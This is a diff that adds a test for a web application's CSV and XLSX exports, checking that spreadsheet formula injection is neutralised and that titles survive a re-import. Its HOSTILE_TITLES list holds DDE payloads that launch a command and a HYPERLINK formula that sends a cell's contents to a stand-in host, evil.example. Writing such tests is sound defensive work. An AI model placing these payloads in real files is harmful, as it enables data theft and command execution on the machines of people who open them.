@@ -165,3 +165,51 @@ async def test_demand_export_for_enterprises(client, db, owner, make_listing):
     response = await client.get("/api/v1/demands/export?format=csv", headers=who.headers)
     rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0]["budget_min"] == "10.00" and rows[0]["confidential"] == "True"
+
+
+HOSTILE_TITLES = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+async def test_exports_hold_no_formulas(client, db, owner, make_listing):
+    """Formula injection (OWASP CSV injection): a title or keyword a spreadsheet would run is
+    exported as text, its first character behind an apostrophe, and imports back as it was."""
+    who = await owner("achievements")
+    for title in HOSTILE_TITLES:
+        await make_listing("achievements", who, publish=False, title=title, keywords=["=1+1", "正常"])
+
+    response = await client.get("/api/v1/achievements/export?format=csv", headers=who.headers)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert sorted(r["title"] for r in rows) == sorted("'" + t for t in HOSTILE_TITLES)
+    assert {r["keywords"] for r in rows} == {"'=1+1;正常"}
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values())
+
+    response = await client.get("/api/v1/achievements/export?format=xlsx", headers=who.headers)
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]  # not data_only: formulas stay formulas
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert {c.data_type for c in cells} == {"s"}  # every cell text: version and maturity too
+    titles = [c.value for c in next(sheet.iter_cols(min_col=7, max_col=7, min_row=2))]
+    assert sorted(titles) == sorted("'" + t for t in HOSTILE_TITLES)
+
+    # The apostrophe is the export's: the file imports back with the titles as they were.
+    sheet.delete_cols(1, 6)
+    out = io.BytesIO()
+    sheet.parent.save(out)
+    second = await owner("achievements")
+    response = await client.post(
+        "/api/v1/achievements/import", files={"file": ("back.xlsx", out.getvalue())}, headers=second.headers
+    )
+    assert response.status_code == 201, response.text
+    copies = (
+        await db.execute(
+            select(Achievement).where(Achievement.owner_organization_id == second.user.organization_id)
+        )
+    ).scalars()
+    assert sorted((c.title, tuple(c.keywords)) for c in copies) == sorted(
+        (t, ("=1+1", "正常")) for t in HOSTILE_TITLES
+    )
